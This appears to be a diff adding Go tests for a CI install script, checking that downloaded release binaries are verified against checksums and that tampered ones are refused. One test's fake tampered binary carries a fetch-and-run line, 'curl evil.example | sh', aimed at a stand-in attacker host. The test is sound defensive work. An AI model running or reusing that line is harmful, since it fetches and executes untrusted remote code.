@@ -1,0 +1,128 @@
+package release
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// fakeBinary stands in for a release binary: a script that prints a version.
+const fakeBinary = "#!/bin/sh\necho v9.8.7\n"
+
+// release serves a release's files, as GitHub's download URLs do.
+func release(t *testing.T, files map[string]string) *httptest.Server {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, ok := files[strings.TrimPrefix(r.URL.Path, "/")]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write([]byte(body))
+	}))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+func sum(s string) string {
+	h := sha256.Sum256([]byte(s))
+	return hex.EncodeToString(h[:])
+}
+
+type install struct {
+	code                  int
+	log, githubPath, outs string
+	bin                   string
+}
+
+// runInstall runs setup/install.sh as the composite action does on a
+// Linux x64 runner, with env added.
+func runInstall(t *testing.T, env ...string) install {
+	t.Helper()
+	tmp := t.TempDir()
+	path, outs := filepath.Join(tmp, "github_path"), filepath.Join(tmp, "github_output")
+	cmd := exec.Command("bash", "../../setup/install.sh")
+	cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "RUNNER_OS=Linux", "RUNNER_ARCH=X64",
+		"RUNNER_TEMP=" + tmp, "GITHUB_PATH=" + path, "GITHUB_OUTPUT=" + outs, "KD_REPOSITORY=acme/kustomize-deploy"}, env...)
+	out, err := cmd.CombinedOutput()
+	res := install{log: string(out), bin: filepath.Join(tmp, "kustomize-deploy-setup", "bin", "kustomize-deploy")}
+	if ee, ok := err.(*exec.ExitError); ok {
+		res.code = ee.ExitCode()
+	} else if err != nil {
+		t.Fatal(err)
+	}
+	p, _ := os.ReadFile(path)
+	o, _ := os.ReadFile(outs)
+	res.githubPath, res.outs = string(p), string(o)
+	return res
+}
+
+// The release commit carries checksums.txt next to the script: the
+// binary is checked against it, not against a file from the same server.
+func TestInstallVerifiesAgainstThePinnedChecksums(t *testing.T) {
+	srv := release(t, map[string]string{"kustomize-deploy_linux_amd64": fakeBinary})
+	sums := filepath.Join(t.TempDir(), "checksums.txt")
+	os.WriteFile(sums, []byte(sum(fakeBinary)+"  kustomize-deploy_linux_amd64\n"+sum("x")+"  kustomize-deploy_darwin_arm64\n"), 0o644)
+	res := runInstall(t, "KD_DOWNLOAD_URL="+srv.URL, "KD_CHECKSUMS="+sums, "KD_VERSION=v9.8.7")
+	if res.code != 0 {
+		t.Fatalf("exit %d\n%s", res.code, res.log)
+	}
+	if out, err := exec.Command(res.bin).Output(); err != nil || string(out) != "v9.8.7\n" {
+		t.Errorf("installed binary: %q %v", out, err)
+	}
+	if strings.TrimSpace(res.githubPath) != filepath.Dir(res.bin) {
+		t.Errorf("GITHUB_PATH %q, want %s", res.githubPath, filepath.Dir(res.bin))
+	}
+	if !strings.Contains(res.outs, "path="+res.bin) || !strings.Contains(res.outs, "version=v9.8.7") {
+		t.Errorf("outputs %q", res.outs)
+	}
+}
+
+func TestInstallRefusesATamperedBinary(t *testing.T) {
+	srv := release(t, map[string]string{"kustomize-deploy_linux_amd64": fakeBinary + "curl evil.example | sh\n"})
+	sums := filepath.Join(t.TempDir(), "checksums.txt")
+	os.WriteFile(sums, []byte(sum(fakeBinary)+"  kustomize-deploy_linux_amd64\n"), 0o644)
+	res := runInstall(t, "KD_DOWNLOAD_URL="+srv.URL, "KD_CHECKSUMS="+sums)
+	if res.code == 0 || !strings.Contains(res.log, "checksum mismatch for kustomize-deploy_linux_amd64") {
+		t.Fatalf("exit %d\n%s", res.code, res.log)
+	}
+	if _, err := os.Stat(res.bin); err == nil || res.githubPath != "" {
+		t.Error("a binary that failed its checksum was installed")
+	}
+}
+
+// On a branch there is no pinned checksums.txt: the release's own is used.
+func TestInstallFromABranchUsesTheReleaseChecksums(t *testing.T) {
+	srv := release(t, map[string]string{
+		"kustomize-deploy_linux_amd64": fakeBinary,
+		"checksums.txt":                sum(fakeBinary) + "  kustomize-deploy_linux_amd64\n",
+	})
+	res := runInstall(t, "KD_DOWNLOAD_URL="+srv.URL, "KD_CHECKSUMS=/nonexistent/checksums.txt")
+	if res.code != 0 || !strings.Contains(res.outs, "version=v9.8.7") {
+		t.Fatalf("exit %d outputs %q\n%s", res.code, res.outs, res.log)
+	}
+}
+
+func TestInstallErrorsNameTheProblem(t *testing.T) {
+	srv := release(t, map[string]string{"checksums.txt": sum("x") + "  kustomize-deploy_darwin_arm64\n"})
+	for name, tc := range map[string]struct {
+		env  []string
+		want string
+	}{
+		"not in the sums": {[]string{"KD_DOWNLOAD_URL=" + srv.URL}, "kustomize-deploy_linux_amd64 is not in checksums.txt"},
+		"bad version":     {[]string{"KD_VERSION=latest"}, "input 'version': want a release such as v1.2.3"},
+		"unknown arch":    {[]string{"RUNNER_ARCH=ARM"}, "unsupported runner architecture 'ARM'"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			res := runInstall(t, tc.env...)
+			if res.code == 0 || !strings.Contains(res.log, tc.want) {
+				t.Errorf("exit %d, want an error with %q:\n%s", res.code, tc.want, res.log)
+			}
+		})
+	}
+}
